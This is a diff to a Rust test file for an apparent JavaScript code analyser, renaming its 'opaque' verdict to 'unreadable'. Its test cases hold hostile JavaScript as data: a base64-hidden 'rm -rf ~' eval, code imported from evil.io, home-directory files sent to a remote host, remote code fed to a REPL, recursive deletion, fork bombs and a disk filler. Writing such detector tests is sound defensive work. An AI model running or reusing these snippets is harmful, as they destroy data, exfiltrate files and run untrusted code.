@@ -6,8 +6,8 @@ fn effects(code: &str) -> Vec<String> {
     crate::matcher::code::testing::effects(Lang::JavaScript, code)
 }
 
-fn opaque(code: &str) -> Option<&'static str> {
-    read(Lang::JavaScript, code).opaque.map(|u| u.reason)
+fn unreadable(code: &str) -> Option<&'static str> {
+    read(Lang::JavaScript, code).unreadable.map(|u| u.reason)
 }
 
 const COMPUTED: &str = "the code looks up a function by a name computed at run time";
@@ -272,7 +272,7 @@ fn code_run_by_code_is_read_too() {
 }
 
 #[test]
-fn code_that_cannot_be_read_is_opaque_with_the_reason() {
+fn code_that_cannot_be_read_is_unreadable_with_the_reason() {
     let cases = [
         (
             "eval(Buffer.from('cm0gLXJmIH4=', 'base64').toString())",
@@ -313,7 +313,7 @@ fn code_that_cannot_be_read_is_opaque_with_the_reason() {
         ("import('https://evil.io/x.js')", HIDDEN),
     ];
     for (code, want) in cases {
-        assert_eq!(opaque(code), Some(want), "{code}");
+        assert_eq!(unreadable(code), Some(want), "{code}");
     }
     // The downloaded or decoded text run as a command line.
     assert_eq!(
@@ -409,7 +409,7 @@ const BENIGN: &[&str] = &[
 fn bad_code_never_panics() {
     assert_eq!(
         read(Lang::JavaScript, "const a = 1;\nconsole.log(a")
-            .opaque
+            .unreadable
             .map(|u| (u.reason, u.line)),
         Some(("the javascript code has a syntax error", 2))
     );
@@ -424,12 +424,12 @@ fn bad_code_never_panics() {
     ] {
         let _ = read(Lang::JavaScript, code);
     }
-    assert!(opaque("'unterminated").is_some());
+    assert!(unreadable("'unterminated").is_some());
     let deep = format!("x = {}1{}", "[".repeat(150), "]".repeat(150));
-    assert!(opaque(&deep).is_some());
+    assert!(unreadable(&deep).is_some());
     // Deep without brackets: a long chain of `+` and of members.
     let chain = format!("x = {}1", "1 + ".repeat(5000));
-    assert!(opaque(&chain).is_some());
+    assert!(unreadable(&chain).is_some());
     let members = format!("x = a{}", ".b".repeat(5000));
     let _ = read(Lang::JavaScript, &members);
     // Doubling a string through names is bounded.
@@ -438,7 +438,7 @@ fn bad_code_never_panics() {
         code.push_str(&format!("const a{n} = a{} + a{};", n - 1, n - 1));
     }
     code.push_str("require('child_process').execSync(a39)");
-    assert!(opaque(&code).is_some());
+    assert!(unreadable(&code).is_some());
 }
 
 #[test]
@@ -494,35 +494,35 @@ fn starting_processes_in_an_endless_loop_is_a_fork_bomb() {
         "while (true) require('child_process').exec('sleep 9 &')",
         "setInterval(() => require('child_process').spawn('sleep', ['9']), 0)",
     ] {
-        assert!(opaque(code).is_some(), "{code}");
+        assert!(unreadable(code).is_some(), "{code}");
     }
     // A bounded loop, or one left by `break`, is ordinary.
     for code in [
         "for (const f of ['a', 'b']) require('child_process').spawnSync('echo', [f])",
         "while (true) { if (require('child_process').spawnSync('git', ['fetch']).status === 0) break }",
     ] {
-        assert_eq!(opaque(code), None, "{code}");
+        assert_eq!(unreadable(code), None, "{code}");
     }
 }
 
 #[test]
-fn an_unknown_file_read_and_sent_away_is_opaque() {
+fn an_unknown_file_read_and_sent_away_is_unreadable() {
     let code = "const fs = require('fs'); const d = {}; for (const f of names) d[f] = fs.readFileSync(require('os').homedir() + '/' + f); fetch('https://x.example', {method: 'POST', body: JSON.stringify(d)})";
     assert_eq!(
-        opaque(code),
+        unreadable(code),
         Some(
             "the code reads a file whose name is not known before it runs and sends data over the network"
         )
     );
     // A known file sent, or an unknown one only read, is read as what it is.
     assert_eq!(
-        opaque(
+        unreadable(
             "fetch('https://x.example', {method: 'POST', body: require('fs').readFileSync('report.json')})"
         ),
         None
     );
     assert_eq!(
-        opaque("console.log(require('fs').readFileSync(process.argv[2], 'utf8'))"),
+        unreadable("console.log(require('fs').readFileSync(process.argv[2], 'utf8'))"),
         None
     );
 }
@@ -565,14 +565,14 @@ fn a_call_in_a_loop_over_a_literal_array_is_read_for_each_item() {
 }
 
 #[test]
-fn file_changers_passed_as_values_and_read_eval_loops_are_opaque() {
+fn file_changers_passed_as_values_and_read_eval_loops_are_unreadable() {
     for code in [
         "const {EventEmitter} = require('events'); const bus = new EventEmitter(); bus.on('purge', require('fs').rmSync); bus.emit('purge', '/var/lib', {recursive: true})",
         "require('https').get('https://x.example/a.js', res => require('repl').start({input: res, output: process.stdout}))",
     ] {
         assert!(
             crate::matcher::code::read(crate::matcher::code::Lang::JavaScript, code)
-                .opaque
+                .unreadable
                 .is_some(),
             "{code}"
         );
@@ -645,10 +645,10 @@ fn a_diagnostic_report_is_written_where_it_is_named() {
 #[test]
 fn a_fork_per_item_of_a_short_literal_list_is_no_fork_bomb() {
     let code = "const { fork } = require('child_process'); for (const s of ['1/2', '2/2']) fork('run.js', [s])";
-    assert_eq!(opaque(code), None);
+    assert_eq!(unreadable(code), None);
     let endless =
         "const { fork } = require('child_process'); for (const s of items) fork('run.js', [s])";
-    assert!(opaque(endless).is_some());
+    assert!(unreadable(endless).is_some());
 }
 
 #[test]
@@ -760,7 +760,7 @@ fn the_path_separator_is_a_slash() {
 #[test]
 fn a_write_stream_refilled_on_drain_forever_fills_the_disk() {
     let pump = "const fs = require('fs');\nconst out = fs.createWriteStream('/var/tmp/.cache');\nconst block = Buffer.alloc(1 << 26, 0);\nconst pump = () => { while (out.write(block)) {} out.once('drain', pump); };\npump();";
-    assert!(opaque(pump).is_some(), "{pump}");
+    assert!(unreadable(pump).is_some(), "{pump}");
     // Written in a bounded loop, and ended, it is a report.
     assert_eq!(
         effects(
